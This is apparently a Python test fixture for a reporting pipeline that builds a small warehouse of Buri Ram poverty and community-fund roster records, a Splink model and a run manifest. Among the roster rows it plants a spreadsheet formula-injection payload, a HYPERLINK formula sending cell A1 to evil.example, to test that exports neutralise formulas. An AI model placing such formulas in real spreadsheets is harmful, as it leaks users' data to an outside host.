"""The cases the report tests share: test_marts' small warehouse, two more districts, a run's manifest, a model.

Modelled on a Buri Ram extract and its funds' rosters; `reports` writes the HTML page and the workbook twice.
"""

import json
from pathlib import Path

import duckdb
from test_marts import KEY, POVERTY, ROSTER, build_small_warehouse, make_cid

from flows.marts import build_marts
from flows.reports import write_reports
from flows.warehouse import connect

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
P9, P10, P11 = (make_cid(b) for b in ("310202000011", "310202000012", "310108000013"))
# Two more districts' worth of people, as a Buri Ram extract writes them: ปะเคียบ (อ.คูเมือง) and บ้านยาง
# (อ.เมืองบุรีรัมย์), so the outreach sheets and the chart have districts to order.
MORE_POVERTY = [
    (9, "p.csv", 8, P9, "บุญมี", "ศรีสุข", "3", "310202", "31020200003", True, {"income", "health"}),
    (10, "p.csv", 9, P10, "สมศรี", "ศรีสุข", "3", "310202", "31020200003", False, set()),
    (11, "p.csv", 10, P11, "ทองดี", "มั่นคง", "7", "310108", "31010800007", True, {"living"}),
]
MORE_ROSTER = [
    (7, "b.csv", 2, "กองทุนสวัสดิการชุมชนตำบลปะเคียบ", P9, "บุญมี", "ศรีสุข", "3", "310202", 9, "exact_id"),
    (8, "b.csv", 3, HOSTILE, None, "มานพ", "ใจงาม", "2", "310108", None, "unlinked"),
]
MANIFEST = {"run_id": "0f3c2a9e-5d1b-4c7a-9e2f-8b6d4a1c3e57", "started_at": "2026-12-01T22:40:30+00:00",
            "inputs": [{"dataset": "roster", "name": "กองทุนในเมือง.xlsx", "rows_read": 5},
                       {"dataset": "poverty", "name": "tpmap_บุรีรัมย์_2567.csv", "rows_read": 11}]}


def _level(sql: str, label: str, m: float, u: float) -> dict:
    return {"sql_condition": sql, "label_for_charts": label, "m_probability": m, "u_probability": u}


# A saved Splink model as int_link_model keeps it (settings with m and u per level), written out by hand: two
# comparisons, each with a null level, an exact level and the rest.
MODEL = {"link_type": "link_only", "probability_two_random_records_match": 0.0004, "unique_id_column_name": "record_id",
         "sql_dialect": "duckdb", "comparisons": [
             {"output_column_name": column, "comparison_description": column, "comparison_levels": [
                 {"sql_condition": f"{column}_l IS NULL OR {column}_r IS NULL", "label_for_charts": "null",
                  "is_null_level": True},
                 _level(f"{column}_l = {column}_r", "Exact match", m, u),
                 _level("ELSE", "All other comparisons", 1 - m, 1 - u)]}
             for column, m, u in (("first_name", 0.92, 0.002), ("birth_year", 0.85, 0.02))]}


def case_warehouse(path: Path) -> duckdb.DuckDBPyConnection:
    """The small hand-built warehouse of test_marts with the cases below added, marts built."""
    con = connect(path)
    roster = [r if r[3] != ROSTER[-1][3] else (*r[:3], HOSTILE, *r[4:]) for r in ROSTER] + MORE_ROSTER
    build_small_warehouse(con, POVERTY + MORE_POVERTY, roster)
    build_marts(con, KEY)
    return con


def write_case_reports(root: Path) -> Path:
    """Reports written twice (root/one, root/two) from one warehouse that keeps a link model; a fund is named like
    a formula. Each test module makes it once, as its `reports` fixture."""
    with case_warehouse(root / "saphan.duckdb") as con:
        con.execute("create table int_link_model as select 'all' as partition, 'trained' as status, "
                    "? as model_json, 'x' as sha256", [json.dumps(MODEL)])
        write_reports(con, root / "one", MANIFEST)
        write_reports(con, root / "two", MANIFEST)
    return root
